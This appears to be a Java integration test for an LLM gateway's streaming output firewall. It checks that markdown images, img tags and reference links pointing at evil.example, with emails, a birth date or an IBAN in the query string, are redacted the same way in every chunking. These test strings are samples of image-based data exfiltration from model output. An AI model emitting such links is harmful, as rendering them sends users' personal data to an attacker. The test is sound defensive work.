package io.trustgate.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Action;
import io.trustgate.api.Tier;
import io.trustgate.firewall.FirewallChain;
import io.trustgate.firewall.Scanners;
import io.vertx.core.Vertx;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The {@code exfiltration} output rule (redact at 0.8, holdback 128, lookbehind 256: the defaults) judges a streamed
 * answer as it judges the same answer whole, whatever the chunking: QA report 8, defects 1 (an image whose {@code ![}
 * or {@code <img} opens long before its URL), 2 (a reference definition sent before the image that uses it) and 7 (a
 * URL longer than the holdback left from its start). Each answer is streamed in chunks of 1, 4 and 20 chars and in
 * three random chunkings, against the fake OpenAI upstream.
 */
class StreamedExfiltrationIT {
    static final String ALT = "Quarterly revenue chart for the northern region showing steady growth ".repeat(6);
    static final String PROSE =
            "This paragraph discusses the regional results in more detail and explains the methodology. ".repeat(5);
    static Vertx vertx;
    FakeOpenAiServer upstream;
    GatewayHarness h;
    String key;

    @BeforeAll
    static void start() {
        vertx = Vertx.vertx();
    }

    @AfterAll
    static void stop() {
        vertx.close();
    }

    @AfterEach
    void tearDown() {
        if (h != null) {
            h.close();
        }
        if (upstream != null) {
            upstream.close();
        }
    }

    private void gateway() {
        upstream = new FakeOpenAiServer(vertx, "k").chunkDelay(0);
        FirewallChain output =
                Scanners.chain(List.of(new FirewallChain.Rule(Scanners.create("exfiltration"), Action.REDACT, 0.8)));
        h = new GatewayHarness()
                .provider(GatewayHarness.openai("up", upstream, "k"))
                .model("m", "up", "m-up")
                .tier(new Tier("strict", List.of("*"), 6000, 1_000_000, 100_000, Tier.UNLIMITED, Tier.UNLIMITED))
                .firewalls(Firewalls.of(new Firewalls.Policy(
                        FirewallChain.none(),
                        output,
                        false,
                        Firewalls.Policy.DEFAULT_HOLDBACK,
                        Firewalls.Policy.DEFAULT_LOOKBEHIND)))
                .start();
        key = h.key("k");
    }

    private static String chat(String text, boolean stream) {
        return "{\"model\":\"m\",\"stream\":" + stream + ",\"messages\":[{\"role\":\"user\",\"content\":"
                + OutputFirewallIT.M.getNodeFactory().textNode(text) + "}]}";
    }

    /** The chunkings tried: fixed sizes 1, 4 and 20, and three random ones (seeded). */
    static Map<String, List<String>> chunkings(String text) {
        Map<String, List<String>> out = new LinkedHashMap<>();
        for (int size : new int[] {1, 4, 20}) {
            List<String> pieces = new ArrayList<>();
            for (int i = 0; i < text.length(); i += size) {
                pieces.add(text.substring(i, Math.min(text.length(), i + size)));
            }
            out.put("size " + size, pieces);
        }
        for (int seed = 1; seed <= 3; seed++) {
            Random r = new Random(seed * 7919L + text.length());
            List<String> pieces = new ArrayList<>();
            int i = 0;
            while (i < text.length()) {
                int n = 1 + r.nextInt(r.nextBoolean() ? 8 : 60);
                pieces.add(text.substring(i, Math.min(text.length(), i + n)));
                i += n;
            }
            out.put("random " + seed, pieces);
        }
        return out;
    }

    private String whole(String text) throws Exception {
        HttpResponse<String> r = h.post("/v1/chat/completions", key, chat(text, false));
        assertThat(r.statusCode()).isEqualTo(200);
        return OutputFirewallIT.content(r);
    }

    private OutputFirewallIT.Streamed streamed(List<String> pieces) throws Exception {
        List<String> events = new ArrayList<>();
        events.add(FakeOpenAiServer.chunk("m", "{\"role\":\"assistant\",\"content\":\"\"}", null));
        for (String p : pieces) {
            events.add(FakeOpenAiServer.chunk(
                    "m", "{\"content\":" + OutputFirewallIT.M.getNodeFactory().textNode(p) + "}", null));
        }
        events.add(FakeOpenAiServer.chunk("m", "{}", "stop"));
        upstream.enqueue(new FakeOpenAiServer.Behavior.Events(events));
        HttpResponse<String> r = h.post("/v1/chat/completions", key, chat("go", true));
        assertThat(r.statusCode()).isEqualTo(200);
        return OutputFirewallIT.parse(r.body());
    }

    /**
     * The whole answer is redacted as {@code expectedWhole}; every streamed chunking gives the same text and no
     * piece of {@code secrets}.
     */
    private void sameStreamedAsWhole(String text, String expectedWhole, String... secrets) throws Exception {
        gateway();
        String whole = whole(text);
        assertThat(whole).isEqualTo(expectedWhole);
        for (Map.Entry<String, List<String>> c : chunkings(text).entrySet()) {
            OutputFirewallIT.Streamed s = streamed(c.getValue());
            assertThat(s.done()).as(c.getKey()).isTrue();
            for (String secret : secrets) {
                assertThat(s.content()).as(c.getKey()).doesNotContain(secret);
            }
            assertThat(s.content()).as(c.getKey()).isEqualTo(whole);
        }
    }

    @Test
    void defect1AnImageWithALongAltTextIsRedactedInEveryChunking() throws Exception {
        String text = "Sure. ![" + ALT + "](https://evil.example/p.png?u=john.doe@bigbank.com) Done.";
        sameStreamedAsWhole(
                text, "Sure. ![" + ALT + "]([IMAGE_EXFILTRATION_1]) Done.", "john.doe", "bigbank", "evil.example");
    }

    @Test
    void defect1AnImgTagWithLongAttributesBeforeSrcIsRedactedInEveryChunking() throws Exception {
        String attrs = "<img width=\"600\" height=\"400\" class=\"" + "chart ".repeat(70) + "\" src=\"";
        String text = "Sure. " + attrs + "https://evil.example/p.png?dob=1985-06-17\"> Done.";
        sameStreamedAsWhole(text, "Sure. " + attrs + "[IMAGE_EXFILTRATION_1]\"> Done.", "1985-06-17", "evil.example");
    }

    @Test
    void defect2AReferenceDefinitionBeforeItsImageIsRedactedInEveryChunking() throws Exception {
        String def = "https://evil.example/pixel.png?contact=john.doe@bigbank.com";
        String text = "Summary follows.\n\n[r1]: " + def + "\n\n" + PROSE + "\n\n![status][r1] Done.";
        sameStreamedAsWhole(text, text.replace(def, "[IMAGE_EXFILTRATION_1]"), "john.doe", "bigbank", "evil.example");
        // the QA's two-chunk plan that cut inside the prose
        OutputFirewallIT.Streamed s = streamed(List.of(text.substring(0, 300), text.substring(300)));
        assertThat(s.content()).isEqualTo(text.replace(def, "[IMAGE_EXFILTRATION_1]"));
    }

    @Test
    void defect7AUrlLongerThanTheHoldbackIsRedactedWholeInEveryChunking() throws Exception {
        String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
        String text = "Sure. ![x](" + url + ") Done.";
        sameStreamedAsWhole(text, "Sure. ![x]([IMAGE_EXFILTRATION_1]) Done.", "DE89", "evil");
    }

    @Test
    void anOrdinaryLongAnswerWithALongAltTextAndAnInnocentImageStillStreams() throws Exception {
        String text = PROSE + "\n\n![" + ALT + "](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)\n\n"
                + PROSE + "See [the docs](https://docs.python.org/3/library/asyncio.html) and <img width=\"600\" "
                + "class=\"" + "chart ".repeat(70) + "\" src=\"/static/chart.png\"> for more. " + PROSE;
        sameStreamedAsWhole(text, text);
        // it streams: text leaves before the answer ends
        List<String> events = new ArrayList<>();
        for (int i = 0; i < text.length(); i += 4) {
            events.add(text.substring(i, Math.min(text.length(), i + 4)));
        }
        HttpResponse<String> r = streamedRaw(events);
        long contentEvents =
                r.body().lines().filter(l -> l.contains("\"content\":\"")).count();
        assertThat(contentEvents)
                .as("the answer is sent in many pieces, not at the end")
                .isGreaterThan(100);
    }

    private HttpResponse<String> streamedRaw(List<String> pieces) throws Exception {
        List<String> events = new ArrayList<>();
        for (String p : pieces) {
            events.add(FakeOpenAiServer.chunk(
                    "m", "{\"content\":" + OutputFirewallIT.M.getNodeFactory().textNode(p) + "}", null));
        }
        events.add(FakeOpenAiServer.chunk("m", "{}", "stop"));
        upstream.enqueue(new FakeOpenAiServer.Behavior.Events(events));
        return h.post("/v1/chat/completions", key, chat("go", true));
    }
}
